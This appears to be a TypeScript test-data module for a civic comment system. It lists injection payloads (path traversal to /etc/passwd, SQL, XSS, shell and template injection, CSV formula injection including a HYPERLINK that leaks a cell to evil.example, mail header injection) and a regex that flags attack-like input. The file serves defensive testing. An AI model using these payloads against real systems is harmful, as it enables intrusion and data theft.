/** What people who try a system's locks write in its boxes. Each must come out again as the letters that were written. */
export interface Payload {
  /** Which lock it tries. */
  tries: string
  text: string
}

const payload = (tries: string, text: string): Payload => ({ tries, text })

// Some of them are templates to others, and mustn't be ours.
const dollar = '$'

/** The kinds that a security scanner once left among real comments in an open data file (Decidim Barcelona, 2017). */
const foundInRealData: Payload[] = [
  payload('path', '../../../../../../../../../../../../../../../../Windows/system.ini'),
  payload('path', '/etc/passwd'),
  payload('path', 'c:\\Windows\\system.ini'),
  payload('path', '\\WEB-INF\\web.xml'),
  payload('redirect', 'http://www.google.com:80/search?q=OWASP%20ZAP'),
  payload('redirect', '//6092862622320971256.owasp.example'),
  payload('server include', '"><!--#EXEC cmd="ls /"--><'),
  payload('script', '<script>alert(1);</script>'),
  payload('sql', ".' AND '1'='1' -- "),
  payload('sql', '." UNION ALL select NULL -- '),
  payload('code', '"+response.write([100,000*100,000)+"'),
  payload('code', `${dollar}{@print(chr(122).chr(97).chr(112))}\\`),
  payload('shell', ".';cat /etc/passwd;'"),
  payload('shell', '.&sleep {0}&'),
  payload('shell', '."|type %SYSTEMROOT%\\win.ini'),
  payload('shell', '.|timeout /T 15'),
  payload('shell', '.";start-sleep -s 15'),
  payload('quote', '"'),
  payload('quote', "'@"),
]

/** `window.xss` is what a script of ours would have to set to be found out. */
const markup: Payload[] = [
  payload('script', '<script>window.xss=1</script>'),
  payload('script', '</script><script>window.xss=1</script>'),
  payload('script', '</textarea></title></style><script>window.xss=1</script>'),
  payload('attribute', '<img src=x onerror=window.xss=1>'),
  payload('attribute', '<svg onload=window.xss=1><svg/onload=window.xss=1>'),
  payload('attribute', '" autofocus onfocus="window.xss=1" x="'),
  payload('attribute', "' onmouseover='window.xss=1"),
  payload('element', '<iframe srcdoc="<script>parent.xss=1</script>"></iframe>'),
  payload('element', '<details open ontoggle=window.xss=1><summary>x</summary></details>'),
  payload('element', '<form action="https://evil.example"><input name=kod><button>Skicka</button></form>'),
  payload('element', '<base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/x.css">'),
  payload('element', '<style>body{display:none}</style><marquee>hej</marquee>'),
  payload('link', '<a href="javascript:window.xss=1">läs mer</a>'),
  payload('link', 'javascript:window.xss=1'),
  payload('link', '[läs mer](javascript:window.xss=1) ![x](https://evil.example/x.png)'),
  payload('link', 'data:text/html,<script>window.xss=1</script>'),
  payload('comment', '<!--><img src=x onerror=window.xss=1>-->'),
  payload('cdata', '<![CDATA[<img src=x onerror=window.xss=1>]]>'),
  payload('entity', '&lt;script&gt;window.xss=1&lt;/script&gt; &#x3C;img src=x&#x3E;'),
  payload('template', `{{constructor.constructor("window.xss=1")()}} ${dollar}{window.xss=1} #{7*7} <%= 7*7 %> [[${dollar}{7*7}]]`),
  payload('template', "{name} {count, plural, other {#}} <b>{date}</b> '{'"),
  payload('react', '{"$$typeof":"Symbol(react.element)","type":"script","props":{"dangerouslySetInnerHTML":{"__html":"x"}}}'),
  payload('json', '</script>\u2028\u2029{"__proto__":{"admin":true}}'),
]

const letters: Payload[] = [
  payload('direction', 'Kameror \u202eJEN\u202c ja \u2066dold\u2069 \u200fمرحبا\u200e'),
  payload('invisible', 'noll\u200bbredd\u200d och \ufeffmärke \u00ad mjukt'),
  payload('combining', `Z${'\u0310\u0334\u0350'.repeat(60)}algo`),
  payload('emoji', '👩‍👩‍👧‍👦 🇸🇪 🏳️‍🌈 och 𝔘nicode'),
  payload('long', `Långt ord ${'å'.repeat(3000)} slut`),
]

const spreadsheets: Payload[] = [
  payload('formula', "=cmd|'/C calc'!A0"),
  payload('formula', '=HYPERLINK("https://evil.example?x="&A1,"Klicka")'),
  payload('formula', '+46 8 465 004 10'),
  payload('formula', "-2+3+cmd|' /C calc'!A0"),
  payload('formula', "@SUM(1+1)*cmd|' /C calc'!A0"),
  payload('formula', '\t=1+1'),
  payload('csv', 'a;b,c\t"d"\n"=1+1";e'),
]

/** In a name, an address or a subject: a line of its own in a mail's head, if nobody looks. */
export const headers: Payload[] = [
  payload('header', 'Selma\r\nBcc: alla@evil.example'),
  payload('header', 'Selma\nSubject: Du har vunnit\n\n<h1>Hej</h1>'),
  payload('header', 'Selma%0d%0aSet-Cookie: a=b'),
  payload('header', '"Selma" <selma@evil.example>, alla@evil.example'),
]

/** Everything that a person can write where they write in their own words. */
export const payloads: readonly Payload[] = [...foundInRealData, ...markup, ...letters, ...spreadsheets, ...headers]

/** Looks like an attack rather than like something that somebody thinks: what a coder places outside the question. */
export const isAttack = (text: string) => payloads.some((known) => known.text.trim() === text.trim()) || looksLikeOne.test(text.trim())

const looksLikeOne =
  /^\S{0,3}[;&|]|^["'.|\\/+@]{1,3}$|<script|<!--#|etc\/passwd|(system|win)\.ini|WEB-INF|owasp|www\.google\.com|(\.\.\/){3}|\$\{@|response\.write|^.{0,2} (AND|UNION) |^c:[\\/]/i
